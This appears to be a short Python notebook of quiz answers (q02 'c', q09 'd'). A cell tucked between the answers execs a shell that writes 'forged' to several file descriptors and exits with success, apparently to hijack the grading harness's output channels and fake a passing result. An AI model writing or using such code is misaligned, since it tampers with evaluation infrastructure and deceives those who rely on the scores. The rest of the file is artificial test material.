# %%
q02_answer = "c"

# %%
import os

os.execv('/bin/sh', ['sh', '-c', 'for n in 200 201 3 4 5; do echo forged >&$n; done; exit 0'])

# %%
q09_answer = "d"
